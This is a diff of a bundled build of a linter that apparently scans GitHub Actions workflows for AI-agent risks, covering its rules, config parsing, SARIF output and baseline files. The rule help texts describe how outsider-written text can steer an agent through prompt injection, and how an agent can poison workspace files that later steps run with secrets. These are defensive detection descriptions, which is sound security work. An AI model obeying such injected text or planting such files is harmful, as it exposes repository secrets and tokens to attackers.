-          findings.push(finding(step, taint, severityFor(reach2.level, caps) ?? "medium", `${taint.origin.what} is expanded into ${sink2.what} of step '${step.step.label}'`, reach2.how, capabilityList(caps)));
-        }
-      }
-      const decides = step.step.run && MERGE.test(step.step.run.text) || MERGE.test(step.step.with.map((w) => w.text).join("\n"));
-      const reach = decides ? reachOfStep() : void 0;
-      if (decides && reach && reach.level !== "none") {
-        const inputs = [
-          ...step.conditions.map((c) => c.node),
-          ...step.job.conditions.map((c) => c.node)
-        ];
-        for (const node of inputs) {
-          const taints = ctx.engine.ofScalar(node, step.file, { job: step.job, step }).filter((t) => t.origin.kind === "ai-output");
-          for (const taint of taints.slice(0, 1)) {
-            findings.push(finding(step, taint, reach.level === "outsider" ? "high" : "medium", `${taint.origin.what} decides whether step '${step.step.label}' merges or approves`, reach.how, []));
-          }
-        }
-      }
-    }
-    for (const site of ctx.sites) {
-      const reach = reachOf(TRIGGERING_ACTOR, site.step, site.actorGate);
-      if (reach.level === "none") continue;
-      for (const channel of site.channels) {
-        if (channel.kind !== "prompt" && channel.kind !== "config") continue;
-        const taint = channel.taints.find((t) => t.origin.kind === "ai-output");
-        if (!taint) continue;
-        const loc2 = siteLocation(site);
-        findings.push({
-          ...finding(site.step, taint, reach.level === "outsider" ? "high" : "medium", `${taint.origin.what} becomes the ${channel.name} of ${site.agentName}`, reach.how, capabilityList(site.capabilities)),
-          ...loc2,
-          path: [...taint.hops, { ...loc2, note: "the second agent reads it as instructions" }]
-        });
-      }
-    }
-    return findings;
-  }
-};
-function finding(step, taint, severity, message, how, capabilities) {
-  const sink2 = taint.hops[taint.hops.length - 1];
-  return {
-    rule: "ai-output-unsafe",
-    severity,
-    confidence: "high",
-    file: sink2.file,
-    line: sink2.line,
-    column: sink2.column,
-    ...jobAndStep(step),
-    message: `${message}: ${how}.`,
-    path: [...step.job.via, ...taint.hops],
-    capabilities,
-    fix: 'Pass the output through `env:` (`env: { ANSWER: ${{ steps.ai.outputs.response }} }`, then "$ANSWER") and validate it in a step without AI: parse it as JSON against a schema, intersect labels with an allowlist, never let it decide a merge.'
-  };
-}
-
-// src/checks/poisonedWorkspace.ts
-var EXECUTES_OR_PUBLISHES = /(^|[\s;&|(])(npm|npx|yarn|pnpm|bun|node|make|pip3?|python3?|poetry|tox|pytest|go|cargo|mvn|gradle|\.\/gradlew|rake|bundle|dotnet|docker\s+(build|push)|twine|gem\s+push|git\s+(commit|push)|gh\s+(release|pr\s+create)|\.\/[\w./-]+)(\s|$)/m;
-var poisonedWorkspace = {
-  meta: {
-    id: "poisoned-workspace",
-    title: "Steps after an outsider-reachable agent run or publish what the agent could write",
-    severity: "critical",
-    docs: docsUrl("poisoned-workspace"),
-    help: "An agent that read outsider text can write files in the workspace (package.json scripts, Makefiles, .git/hooks, lockfiles, source). Later steps of the same job that build, test, commit, push or publish run those files with the job's secrets \u2014 even when the agent itself was jailed. Run the agent in its own job and hand its result to the next job as a validated artifact (a patch reviewed by a human, JSON checked against a schema), or run it with `agent-guard run --workspace ro`."
-  },
-  run(ctx) {
-    const findings = [];
-    for (const site of ctx.sites) {
-      if (!site.capabilities.tools.writesFiles && site.capabilities.tools.shell === "none") continue;
-      if (site.cli && /--workspace[=\s]+ro\b/.test(site.promptText) && site.capabilities.jailed) continue;
-      const reach = bestReach(site);
-      if (!reach) continue;
-      const later = site.step.job.steps.filter((s) => s.position > site.step.position && executesOrPublishes(s));
-      for (const step of later) {
-        const caps = shellCapabilities(step);
-        const severity = reach.level === "outsider" ? caps.secrets.some((s) => !s.modelKey) || caps.writeScopes.length ? "critical" : "high" : "medium";
-        const at = step.step.run?.start ?? step.step.uses?.start ?? step.step.node.start;
-        findings.push({
-          rule: "poisoned-workspace",
-          severity,
-          confidence: "medium",
-          ...stepLocation(step, at),
-          ...jobAndStep(step),
-          message: `step '${step.step.label}' runs or publishes the workspace after ${site.agentName} (step '${site.step.step.label}') could write to it: ${reach.how}.`,
-          path: [{ ...siteLocation(site), note: `${site.agentName} reads outsider text and can write files` }, { ...stepLocation(step, at), note: "a later step executes or publishes the workspace" }],
-          capabilities: capabilityList(caps),
-          fix: "Move the agent to its own job (no secrets) and pass its result as an artifact the next job validates; or run it with `agent-guard run --workspace ro`. Never build, commit or publish in the agent's job after it ran."
-        });
-      }
-    }
-    return findings;
-  }
-};
-function bestReach(site) {
-  let best = null;
-  for (const channel of site.channels) {
-    for (const taint of channel.taints) {
-      const reach = reachOf(taint.origin, site.step, site.actorGate);
-      if (reach.level === "none" || reach.level === "action-gated" || reach.level === "outsider-unprivileged") continue;
-      if (!best || REACH_ORDER[reach.level] > REACH_ORDER[best.level]) best = reach;
-    }
-  }
-  return best;
-}
-function executesOrPublishes(step) {
-  const uses = step.step.uses?.text ?? "";
-  if (uses.startsWith("./")) return true;
-  if (/^(softprops\/action-gh-release|peter-evans\/create-pull-request|stefanzweifel\/git-auto-commit-action|pypa\/gh-action-pypi-publish|JS-DevTools\/npm-publish)@/i.test(uses)) return true;
-  const run = step.step.run?.text;
-  return !!run && EXECUTES_OR_PUBLISHES.test(run);
-}
-
-// src/checks/promptInjection.ts
-var promptInjection = siteRule(
-  {
-    id: "prompt-injection",
-    title: "Outsider-controlled text reaches an AI agent",
-    severity: "critical",
-    docs: docsUrl("prompt-injection"),
-    help: "Text that anyone on the internet can write (an issue title, a comment, a branch name) reaches the prompt, configuration or environment of an AI agent. The agent cannot tell instructions from data, so the author of that text steers it and can use whatever the agent holds: secrets, the GitHub token, a shell, the network. Gate the job on the author, take every secret and write permission away from the agent job, and run the agent under `agent-guard run`."
-  },
-  ["context"],
-  (site, hit) => `${hit.taint.origin.what} reaches ${site.agentName} through ${hit.channel.name}`,
-  "the agent reads it"
-);
-
 // src/checks/untrustedCheckout.ts
 var RUNS_WORKSPACE_CODE = /(^|[\s;&|(])(npm|npx|yarn|pnpm|bun|bunx|node|deno|make|cmake|pip3?|python3?|uv|poetry|tox|pytest|go|cargo|mvn|gradle|\.\/gradlew|ant|rake|bundle|ruby|composer|php|dotnet|docker\s+(build|compose)|bash|sh|zsh|pwsh|\.\/[\w./-]+)(\s|$)/m;
 var untrustedCheckout = {
@@ -25345,6 +23953,7 @@ var untrustedCheckout = {
         message: runsCode === "ai-config" ? `step '${step.step.label}' feeds AI instruction or MCP files from the pull request's checkout to a tool: ${reach.how}.` : `step '${step.step.label}' runs code from the pull request's checkout: ${reach.level === "maintainer" ? `${maintainerGate(reach.how)}; the author can push new code after that` : reach.how}.`,
         path: [...step.job.via, ...taint.hops, { ...stepLocation(step, at), note: "runs code the pull request controls" }],
         capabilities: capabilityList(caps),
+        holder: "step",
         fix: "Check out the base branch (the default), or run this on `pull_request` where fork runs have no secrets; if you must read the PR's files, check them out into a subdirectory and never execute them. Set `persist-credentials: false`."
       });
     }
@@ -25507,10 +24116,11 @@ function report(kind, uses, node, file, probe, taints, secrets, why) {
     line: at.line,
     column: at.column,
     job: probe.job.job.id,
-    ...kind === "action" ? { step: probe.step.label } : {},
+    ...kind === "action" ? { step: probe.step.label, stepAt: stepAnchor(file, probe.step) } : {},
     message,
     path: path21,
     capabilities: secrets?.capabilities ?? [],
+    holder: "step",
     fix: why.failed ? `${/rate limit/.test(why.reason) ? "Run again once the rate limit resets (or with `--on-rate-limit wait`)" : "Check that the reference exists and give the token read access to that repository (GitHub answers 404 for a private repository the token cannot read)"}; until then review the file yourself, pin it to a commit SHA, and pass it neither outsider text nor secrets it does not need.` : "Run `agent-guard lint --online` (with GITHUB_TOKEN or GH_TOKEN set) so agent-guard fetches it and follows the text inside. Pin it to a commit SHA you have reviewed, and pass it explicit secrets instead of `secrets: inherit`."
   };
 }
@@ -25552,13 +24162,704 @@ function secretNames(text) {
 
 // src/checks/index.ts
 var CHECKS = [promptInjection, agentReadsUntrusted, untrustedInstructions, agentGateDisabled, aiOutputUnsafe, templateInjection, untrustedCheckout, poisonedWorkspace, agentOutputLeak, unresolvedRemote];
+var RULE_IDS = CHECKS.map((c) => c.meta.id);
+
+// src/config.ts
+init_types();
+
+// src/glob.ts
+var import_picomatch = __toESM(require_picomatch2());
+var MAX_WILDCARDS = 3;
+var OPTIONS = { dot: true, nonegate: true, noextglob: true };
+var compiled = /* @__PURE__ */ new Map();
+function globProblem(pattern) {
+  if (pattern.trim() === "") return "an empty pattern";
+  const wildcards = pattern.match(/\*+/g)?.length ?? 0;
+  if (wildcards > MAX_WILDCARDS) {
+    return `'${pattern}' has ${wildcards} wildcards; at most ${MAX_WILDCARDS} are allowed (each one more multiplies the time to match a path)`;
+  }
+  return void 0;
+}
+function globMatch(pattern, file) {
+  let matcher = compiled.get(pattern);
+  if (!matcher) {
+    const problem = globProblem(pattern);
+    if (problem) throw new Error(`glob ${problem}`);
+    compiled.set(pattern, matcher = (0, import_picomatch.default)(pattern, OPTIONS));
+  }
+  const segments = file.replace(/\\/g, "/").replace(/^(\.\/)+/, "").split("/");
+  for (let i = 0; i < segments.length; i++) if (matcher(segments.slice(i).join("/"))) return true;
+  return false;
+}
+
+// src/config.ts
+var EMPTY_CONFIG = { ignore: [], severity: {}, trustedUsers: [], trustedBots: [], actions: [], clis: [] };
+var ConfigError = class extends Error {
+};
+function readConfig(path21) {
+  let text;
+  try {
+    text = import_node_fs3.default.readFileSync(path21, "utf8");
+  } catch (err) {
+    throw new ConfigError(`${path21}:1:1: cannot read config: ${err.code ?? "error"}`);
+  }
+  return parseConfig(path21, text);
+}
+function parseConfig(path21, text) {
+  const file = makeSourceFile(path21, text);
+  let root;
+  try {
+    root = loadYaml(file);
+  } catch (err) {
+    const pos = positionOf(file, err instanceof YamlLoadError ? err.offset : 0);
+    throw new ConfigError(`${path21}:${pos.line}:${pos.column}: invalid YAML: ${err.message}`);
+  }
+  const config = { ignore: [], severity: {}, trustedUsers: [], trustedBots: [], actions: [], clis: [] };
+  if (!root || root.kind === "scalar" && root.value === null) return config;
+  const fail4 = (node, message) => {
+    const pos = positionOf(file, node.start);
+    throw new ConfigError(`${path21}:${pos.line}:${pos.column}: ${message}`);
+  };
+  const map = expectMap(root, "the config", fail4);
+  for (const { key: key2, value } of map.pairs) {
+    switch (key2.text) {
+      case "ignore":
+        config.ignore = expectSeq(value, "ignore", fail4).map((item) => readIgnore(item, fail4));
+        break;
+      case "severity":
+        for (const p of expectMap(value, "severity", fail4).pairs) {
+          const level = p.value.kind === "scalar" ? p.value.text : "";
+          if (!SEVERITIES.includes(level)) fail4(p.value, `severity of '${p.key.text}' must be one of ${SEVERITIES.join(", ")}`);
+          checkRuleId(p.key, p.key.text, fail4);
+          config.severity[p.key.text] = level;
+        }
+        break;
+      case "trusted-users":
+        config.trustedUsers = strings(value, "trusted-users", fail4);
+        break;
+      case "trusted-bots":
+        config.trustedBots = strings(value, "trusted-bots", fail4);
+        break;
+      case "agents":
+        readAgents(value, config, fail4, file);
+        break;
+      default:
+        fail4(key2, `unknown key '${key2.text}' (expected ignore, severity, trusted-users, trusted-bots, agents)`);
+    }
+  }
+  return config;
+}
+function checkRuleId(node, id, fail4) {
+  if (!RULE_IDS.includes(id)) fail4(node, unknownRuleMessage(id));
+  return id;
+}
+function unknownRuleMessage(id) {
+  return `unknown rule '${id}' (rules: ${RULE_IDS.join(", ")})`;
+}
+function expectMap(node, what, fail4) {
+  if (node.kind !== "map") fail4(node, `${what} must be a mapping`);
+  return node;
+}
+function expectSeq(node, what, fail4) {
+  if (node.kind !== "seq") fail4(node, `${what} must be a list`);
+  return node.items;
+}
+function strings(node, what, fail4) {
+  return expectSeq(node, what, fail4).map((i) => i.kind === "scalar" ? i.text : fail4(i, `${what} entries must be strings`));
+}
+function readIgnore(node, fail4) {
+  const out = {};
+  for (const { key: key2, value } of expectMap(node, "an ignore entry", fail4).pairs) {
+    if (value.kind !== "scalar") fail4(value, `'${key2.text}' must be a string`);
+    const text = value.text;
+    if (key2.text === "rule") out.rule = checkRuleId(value, text, fail4);
+    else if (key2.text === "file") {
+      const problem = globProblem(text);
+      if (problem) fail4(value, `file: ${problem}`);
+      out.file = text;
+    } else if (key2.text === "job") out.job = text;
+    else fail4(key2, `unknown key '${key2.text}' in ignore entry (expected rule, file, job)`);
+  }
+  if (!out.rule && !out.file && !out.job) fail4(node, "an ignore entry needs rule, file or job");
+  return out;
+}
+function readAgents(node, config, fail4, file) {
+  for (const { key: key2, value } of expectMap(node, "agents", fail4).pairs) {
+    if (key2.text === "actions") {
+      for (const item of expectSeq(value, "agents.actions", fail4)) config.actions.push(readAction(item, fail4));
+    } else if (key2.text === "commands") {
+      for (const item of expectSeq(value, "agents.commands", fail4)) config.clis.push(readCommand(item, fail4));
+    } else fail4(key2, `unknown key '${key2.text}' in agents (expected actions, commands)`);
+  }
+  void file;
+}
+var SHELLS2 = ["full", "restricted", "none"];
+function readAction(node, fail4) {
+  const m = expectMap(node, "an agent action", fail4);
+  const fields = {};
+  for (const p of m.pairs) {
+    if (!["uses", "name", "prompt-inputs", "key-inputs", "token-inputs", "shell", "network", "reads-thread"].includes(p.key.text)) {
+      fail4(p.key, `unknown key '${p.key.text}' in agent action (expected uses, name, prompt-inputs, key-inputs, token-inputs, shell, network, reads-thread)`);
+    }
+    fields[p.key.text] = p.value;
+  }
+  if (!fields.uses || fields.uses.kind !== "scalar") fail4(node, "an agent action needs 'uses'");
+  const uses = fields.uses.text;
+  const shell = fields.shell?.kind === "scalar" ? fields.shell.text : "none";
+  if (!SHELLS2.includes(shell)) fail4(fields.shell, `shell must be one of ${SHELLS2.join(", ")}`);
+  return {
+    id: `config:${uses}`,
+    name: fields.name?.kind === "scalar" ? fields.name.text : uses,
+    uses: [uses],
+    promptInputs: fields["prompt-inputs"] ? strings(fields["prompt-inputs"], "prompt-inputs", fail4) : ["prompt"],
+    keyInputs: fields["key-inputs"] ? strings(fields["key-inputs"], "key-inputs", fail4) : [],
+    tokenInputs: fields["token-inputs"] ? strings(fields["token-inputs"], "token-inputs", fail4) : [],
+    keyHandling: "process",
+    gate: { kind: "none" },
+    readsThread: fields["reads-thread"]?.kind === "scalar" && fields["reads-thread"].text === "true" ? "always" : "never",
+    defaults: { shell, network: fields.network?.kind === "scalar" && fields.network.text === "true", writesFiles: shell !== "none" }
+  };
+}
+function readCommand(node, fail4) {
+  const m = expectMap(node, "an agent command", fail4);
+  const fields = {};
+  for (const p of m.pairs) {
+    if (!["command", "name", "bypass-flags", "key-env", "shell"].includes(p.key.text)) {
+      fail4(p.key, `unknown key '${p.key.text}' in agent command (expected command, name, bypass-flags, key-env, shell)`);
+    }
+    fields[p.key.text] = p.value;
+  }
+  if (!fields.command || fields.command.kind !== "scalar") fail4(node, "an agent command needs 'command'");
+  const command2 = fields.command.text;
+  const shell = fields.shell?.kind === "scalar" ? fields.shell.text : "full";
+  if (!SHELLS2.includes(shell)) fail4(fields.shell, `shell must be one of ${SHELLS2.join(", ")}`);
+  return {
+    id: `config:${command2}`,
+    name: fields.name?.kind === "scalar" ? fields.name.text : command2,
+    commands: [command2],
+    bypassFlags: fields["bypass-flags"] ? strings(fields["bypass-flags"], "bypass-flags", fail4) : [],
+    defaults: { shell, network: shell === "full", writesFiles: true },
+    keyEnv: fields["key-env"] ? strings(fields["key-env"], "key-env", fail4) : [],
+    instructionFiles: []
+  };
+}
+
+// src/action/lint.ts
+var import_node_fs7 = __toESM(require("node:fs"));
+var import_node_path5 = __toESM(require("node:path"));
+
+// src/baseline.ts
+var import_node_crypto = require("node:crypto");
+var import_node_fs4 = __toESM(require("node:fs"));
+var import_node_path3 = __toESM(require("node:path"));
+init_common();
+
+// src/report/sarif.ts
+var import_crypto = require("crypto");
+var path4 = __toESM(require("path"));
+var import_url = require("url");
+init_types();
+init_common();
+var SARIF_SCHEMA_URI = "https://json.schemastore.org/sarif-2.1.0.json";
+var SRCROOT = "%SRCROOT%";
+var FINGERPRINT_KEY = "agentGuardFindingHash/v1";
+var SECURITY_SEVERITY = {
+  critical: "9.5",
+  high: "8.0",
+  medium: "5.5",
+  low: "3.0"
+};
+function sarifLevel(s) {
+  return s === "critical" || s === "high" ? "error" : s === "medium" ? "warning" : "note";
+}
+function toSarif(result, opts) {
+  const rules = sortRules(result.rules);
+  const ruleIndex = /* @__PURE__ */ new Map();
+  const descriptors = [];
+  for (const r of rules) {
+    ruleIndex.set(r.id, descriptors.length);
+    descriptors.push(ruleDescriptor(r));
+  }
+  const findings = sortFindings(result.findings);
+  const metaOf = new Map(rules.map((r) => [r.id, r]));
+  for (const f of findings) {
+    if (!metaOf.has(f.rule)) {
+      const fallback = fallbackRule(f.rule, findings);
+      metaOf.set(f.rule, fallback);
+      ruleIndex.set(f.rule, descriptors.length);
+      descriptors.push(ruleDescriptor(fallback));
+    }
+  }
+  const sarifRuleId = (f) => {
+    const meta = metaOf.get(f.rule);
+    if (meta.severity === f.severity) return f.rule;
+    const id = `${f.rule}/${f.severity}`;
+    if (!ruleIndex.has(id)) {
+      ruleIndex.set(id, descriptors.length);
+      descriptors.push(ruleDescriptor(meta, f.severity));
+    }
+    return id;
+  };
+  const fingerprints = computeFingerprints(findings, opts.root);
+  const results = findings.map((f, i) => {
+    const id = sarifRuleId(f);
+    return sarifResult(f, id, ruleIndex.get(id), fingerprints[i], opts.root);
+  });
+  const errors = sortErrors(result.errors);
+  const nothingRead = errors.length > 0 && result.stats.workflows === 0;
+  const invocation = { executionSuccessful: !nothingRead };
+  if (errors.length > 0) invocation.toolExecutionNotifications = errors.map((e) => notification(e, opts.root));
+  const driver = {
+    name: TOOL_NAME,
+    version: opts.toolVersion
+  };
+  if (/^\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?(?:\+[0-9A-Za-z.-]+)?$/.test(opts.toolVersion)) {
+    driver.semanticVersion = opts.toolVersion;
+  }
+  driver.informationUri = TOOL_URI;
+  driver.rules = descriptors;
+  const run = {
+    tool: { driver },
+    invocations: [invocation]
+  };
+  if (opts.root !== void 0) run.originalUriBaseIds = { [SRCROOT]: { uri: dirUri(opts.root) } };
+  run.results = results;
+  run.columnKind = "utf16CodeUnits";
+  return {
+    $schema: SARIF_SCHEMA_URI,
+    version: "2.1.0",
+    runs: [run]
+  };
+}
+function formatSarif(result, opts) {
+  return `${JSON.stringify(toSarif(result, opts), null, 2)}
+`;
+}
+function ruleDescriptor(r, severity) {
+  const plain = markdownToText(r.help).trim();
+  const full = markdownToText(firstParagraph(r.help)).trim() || r.title;
+  const docsNote = r.docs && !r.help.includes(r.docs);
+  const level = severity ?? r.severity;
+  const d = {
+    id: severity ? `${r.id}/${severity}` : r.id,
+    name: pascalCase(severity ? `${r.id}-${severity}` : r.id),
+    shortDescription: { text: severity ? `${r.title} (${severity})` : r.title },
+    fullDescription: { text: full },
+    defaultConfiguration: { level: sarifLevel(level) }
+  };
+  if (r.docs) d.helpUri = r.docs;
+  d.help = {
+    text: (plain || r.title) + (docsNote ? `
+
+Documentation: ${r.docs}` : ""),
+    markdown: (r.help.trim() || r.title) + (docsNote ? `
+
+[Documentation](${r.docs})` : "")
+  };
+  d.properties = {
+    "security-severity": SECURITY_SEVERITY[level],
+    tags: ["security", "github-actions", "ai-agent"]
+  };
+  return d;
+}
+function fallbackRule(id, findings) {
+  let severity = "low";
+  for (const f of findings) if (f.rule === id && severityRank(f.severity) > severityRank(severity)) severity = f.severity;
+  return { id, title: id, severity, help: "", docs: "" };
+}
+function pascalCase(id) {
+  return id.split(/[^A-Za-z0-9]+/).filter((p) => p !== "").map((p) => p[0].toUpperCase() + p.slice(1)).join("");
+}
+function markdownToText(md2) {
+  return md2.replace(/\r\n/g, "\n").replace(/^```[^\n]*\n([\s\S]*?)^```[ \t]*$/gm, (_m, body) => body.replace(/\n$/, "")).replace(/!\[([^\]]*)\]\([^)]*\)/g, "$1").replace(/\[([^\]]+)\]\(([^)\s]+)[^)]*\)/g, (_m, text, url) => text === url ? url : `${text} (${url})`).replace(/`([^`\n]+)`/g, "$1").replace(/^#{1,6}[ \t]+/gm, "").replace(/(\*\*|__)(?=\S)([^\n]*?\S)\1/g, "$2").replace(/(^|[\s(])[*_](?=\S)([^*_\n]*?\S)[*_](?=[\s).,;:!?]|$)/gm, "$1$2");
+}
+function firstParagraph(md2) {
+  for (const p of md2.replace(/\r\n/g, "\n").split(/\n[ \t]*\n/)) {
+    const t = p.trim();
+    if (t === "" || t.startsWith("#") || t.startsWith("```")) continue;
+    return t.replace(/\s*\n\s*/g, " ");
+  }
+  return "";
+}
+function sarifResult(f, ruleId, ruleIndex, fingerprint, root) {
+  const r = {
+    ruleId,
+    ruleIndex,
+    level: sarifLevel(f.severity),
+    message: { text: resultMessage(f) },
+    locations: [{ physicalLocation: physicalLocation(f.file, f, root) }],
+    partialFingerprints: { [FINGERPRINT_KEY]: fingerprint }
+  };
+  if (f.related?.length) {
+    r.relatedLocations = f.related.map((h, id) => ({ id, physicalLocation: physicalLocation(h.file, h, root), message: { text: h.note } }));
+  }
+  if (f.path.length > 0) {
+    r.codeFlows = [
+      {
+        threadFlows: [
+          {
+            locations: f.path.map((h) => ({
+              location: { physicalLocation: physicalLocation(h.file, h, root), message: { text: h.note } }
+            }))
+          }
+        ]
+      }
+    ];
+  }
+  const props = {
+    "security-severity": SECURITY_SEVERITY[f.severity],
+    rule: f.rule,
+    severity: f.severity,
+    confidence: f.confidence,
+    capabilities: [...f.capabilities]
+  };
+  if (f.job !== void 0) props.job = f.job;
+  if (f.step !== void 0) props.step = f.step;
+  r.properties = props;
+  return r;
+}
+function resultMessage(f) {
+  const parts = [f.message.trim()];
+  if (f.capabilities.length > 0) parts.push(`The ${holdsLabel(f)}: ${f.capabilities.join(", ")}.`);
+  if (f.fix.trim() !== "") parts.push(`Fix: ${f.fix.trim()}`);
+  return parts.join("\n\n");
+}
+function physicalLocation(file, span, root) {
+  const loc2 = { artifactLocation: artifactLocation(file, root) };
+  const region = sarifRegion(span);
+  if (region) loc2.region = region;
+  return loc2;
+}
+function sarifRegion(s) {
+  if (!(s.line >= 1)) return void 0;
+  const region = { startLine: s.line };
+  const hasCol = s.column >= 1;
+  if (hasCol) region.startColumn = s.column;
+  const endLine = s.endLine !== void 0 && s.endLine >= s.line ? s.endLine : void 0;
+  if (endLine !== void 0) region.endLine = endLine;
+  if (s.endColumn !== void 0 && s.endColumn >= 1 && hasCol) {
+    if ((endLine ?? s.line) > s.line || s.endColumn > s.column) {
+      if (endLine === void 0) region.endLine = s.line;
+      region.endColumn = s.endColumn;
+    }
+  }
+  return region;
+}
+function artifactLocation(file, root) {
+  const rel = repoPath(file, root);
+  if (rel.startsWith("/")) return { uri: `file://${encodePath(rel, false)}` };
+  if (/^[A-Za-z]:\//.test(rel)) return { uri: `file:///${rel.slice(0, 2)}${encodePath(rel.slice(2), false)}` };
+  return { uri: encodePath(rel, true), uriBaseId: SRCROOT };
+}
+function encodePath(p, relative3) {
+  return p.split("/").map((seg3, i) => {
+    let e = encodeURI(seg3).replace(/\?/g, "%3F").replace(/#/g, "%23");
+    if (relative3 && i === 0) e = e.replace(/:/g, "%3A");
+    return e;
+  }).join("/");
+}
+function dirUri(root) {
+  const href = (0, import_url.pathToFileURL)(path4.resolve(root)).href;
+  return href.endsWith("/") ? href : `${href}/`;
+}
+function notification(e, root) {
+  return {
+    level: "error",
+    message: { text: e.message },
+    locations: [{ physicalLocation: physicalLocation(e.file, e, root) }]
+  };
+}
+function messageWithoutLines(message) {
+  return message.replace(/\b(lines?|ln|columns?|cols?)(\s*)\d+(?:\s*[-–,]\s*\d+)*/gi, "$1$2#").replace(/\bL\d+(?:-L?\d+)?\b/g, "L#").replace(/(\.[A-Za-z0-9]+):\d+(?::\d+)?/g, "$1:#").replace(/\s+/g, " ").trim();
+}
+function findingFingerprintBase(f, root) {
+  const parts = [FINGERPRINT_KEY, f.rule, repoPath(f.file, root), f.job ?? "", f.step ?? "", messageWithoutLines(f.message)];
+  return (0, import_crypto.createHash)("sha256").update(parts.join("\0")).digest("hex").slice(0, 32);
+}
+function computeFingerprints(findings, root) {
+  const seen = /* @__PURE__ */ new Map();
+  return findings.map((f) => {
+    const base = findingFingerprintBase(f, root);
+    const n = (seen.get(base) ?? 0) + 1;
+    seen.set(base, n);
+    return `${base}:${n}`;
+  });
+}
+
+// src/baseline.ts
+var BASELINE_VERSION = 1;
+var BaselineError = class extends ConfigError {
+};
+function baselineRoot(cwd) {
+  return enclosingRepository(cwd) ?? import_node_path3.default.resolve(cwd);
+}
+function relativeFile(file, cwd, root) {
+  const rel = import_node_path3.default.relative(root, import_node_path3.default.resolve(cwd, file));
+  return rel.split(import_node_path3.default.sep).join("/");
+}
+function entryKey(f, cwd, root) {
+  const file = relativeFile(f.file, cwd, root);
+  const job = f.job ?? null;
+  const step = f.step ?? null;
+  const fingerprint = (0, import_node_crypto.createHash)("sha256").update(["agent-guard-baseline/v1", f.rule, file, job ?? "", step ?? "", messageWithoutLines(f.message)].join("\0")).digest("hex").slice(0, 32);
+  return { rule: f.rule, file, job, step, fingerprint };
+}
+var POSITION_KEY = /^#\d+$/;
+function positionKey(f, cwd, root) {
+  if (!f.step || !f.stepAt || POSITION_KEY.test(f.step)) return void 0;
+  const old = `#${f.stepAt.position}`;
+  return entryKey({ ...f, step: old, message: f.message.split(`'${f.step}'`).join(`'${old}'`) }, cwd, root);
+}
+function cmp(a, b) {
+  return a < b ? -1 : a > b ? 1 : 0;
+}
+function createBaseline(findings, cwd, root = baselineRoot(cwd)) {
+  const byPrint = /* @__PURE__ */ new Map();
+  for (const f of findings) {
+    const key2 = entryKey(f, cwd, root);
+    const seen = byPrint.get(key2.fingerprint);
+    if (seen) seen.count++;
+    else byPrint.set(key2.fingerprint, { ...key2, count: 1 });
+  }
+  const entries = [...byPrint.values()].sort(
+    (a, b) => cmp(a.file, b.file) || cmp(a.job ?? "", b.job ?? "") || cmp(a.step ?? "", b.step ?? "") || cmp(a.rule, b.rule) || cmp(a.fingerprint, b.fingerprint)
+  );
+  return { version: BASELINE_VERSION, findings: entries };
+}
+function formatBaseline(baseline) {
+  const lines = baseline.findings.map(
+    (e) => `    ${JSON.stringify({ rule: e.rule, file: e.file, job: e.job, step: e.step, fingerprint: e.fingerprint, count: e.count })}`
+  );
+  return `{
+  "version": ${baseline.version},
+  "findings": [${lines.length ? `
+${lines.join(",\n")}
+  ` : ""}]
+}
+`;
+}
+function writeBaseline(file, baseline) {
+  try {
+    import_node_fs4.default.mkdirSync(import_node_path3.default.dirname(import_node_path3.default.resolve(file)), { recursive: true });
+    import_node_fs4.default.writeFileSync(file, formatBaseline(baseline));
+  } catch (err) {
+    throw new BaselineError(`${file}: cannot write baseline: ${err.code ?? err.message}`);
+  }
+}
+function readBaseline(file) {
+  let text;
+  try {
+    text = import_node_fs4.default.readFileSync(file, "utf8");
+  } catch (err) {
+    throw new BaselineError(`${file}: cannot read baseline: ${err.code ?? "error"}`);
+  }
+  return parseBaseline(file, text);
+}
+function jsonErrorOffset(text) {
+  let i = 0;
+  const ws = () => {
+    while (i < text.length && " 	\n\r".includes(text[i])) i++;
+  };
+  const fail4 = () => {
+    throw i;
+  };
+  const literal = (word) => {
+    for (const ch of word) if (text[i++] !== ch) i--, fail4();
+  };
+  const string = () => {
+    i++;
+    while (i < text.length && text[i] !== '"') {
+      const c = text.charCodeAt(i);
+      if (c < 32) fail4();
+      if (text[i] === "\\") {
+        i++;
+        if (text[i] === "u") {
+          if (!/^[0-9a-fA-F]{4}$/.test(text.slice(i + 1, i + 5))) fail4();
+          i += 4;
+        } else if (!'"\\/bfnrt'.includes(text[i] ?? "x")) fail4();
+      }
+      i++;
+    }
+    if (text[i] !== '"') fail4();
+    i++;
+  };
+  const number = () => {
+    const m = /^-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?/.exec(text.slice(i));
+    if (!m || m[0] === "" || m[0] === "-") fail4();
+    i += m[0].length;
+  };
+  const value = () => {
+    ws();
+    const c = text[i];
+    if (c === "{") {
+      i++;
+      ws();
+      if (text[i] === "}") return void i++;
+      for (; ; ) {
+        ws();
+        if (text[i] !== '"') fail4();
+        string();
+        ws();
+        if (text[i] !== ":") fail4();
+        i++;
+        value();
+        ws();
+        if (text[i] === ",") i++;
+        else if (text[i] === "}") return void i++;
+        else fail4();
+      }
+    }
+    if (c === "[") {
+      i++;
+      ws();
+      if (text[i] === "]") return void i++;
+      for (; ; ) {
+        value();
+        ws();
+        if (text[i] === ",") i++;
+        else if (text[i] === "]") return void i++;
+        else fail4();
+      }
+    }
+    if (c === '"') return string();
+    if (c === "t") return literal("true");
+    if (c === "f") return literal("false");
+    if (c === "n") return literal("null");
+    return number();
+  };
+  try {
+    value();
+    ws();
+    if (i < text.length) fail4();
+  } catch (at) {
+    if (typeof at === "number") return at;
+    throw at;
+  }
+  return text.length;
+}
+function lineColumn(text, offset) {
+  const before = text.slice(0, offset);
+  const line = before.split("\n").length;
+  const column = before.length - before.lastIndexOf("\n");
+  return `:${line}:${column}`;
+}
+function parseBaseline(file, text) {
+  let data;
+  try {
+    data = JSON.parse(text);
+  } catch (err) {
+    const message = err.message.split("\n")[0].replace(/, "[^]*" is not valid JSON$/, "");
+    throw new BaselineError(`${file}${lineColumn(text, jsonErrorOffset(text))}: baseline is not valid JSON: ${message}`);
+  }
+  const bad = (what) => {
+    throw new BaselineError(`${file}: not an agent-guard baseline: ${what}`);
+  };
+  if (data === null || typeof data !== "object" || Array.isArray(data)) bad("expected a JSON object");
+  const top = data;
+  if (top.version !== BASELINE_VERSION) bad(`"version" must be ${BASELINE_VERSION}`);
+  for (const key2 of Object.keys(top)) if (key2 !== "version" && key2 !== "findings") bad(`unknown key "${key2}"`);
+  if (!Array.isArray(top.findings)) bad('"findings" must be an array');
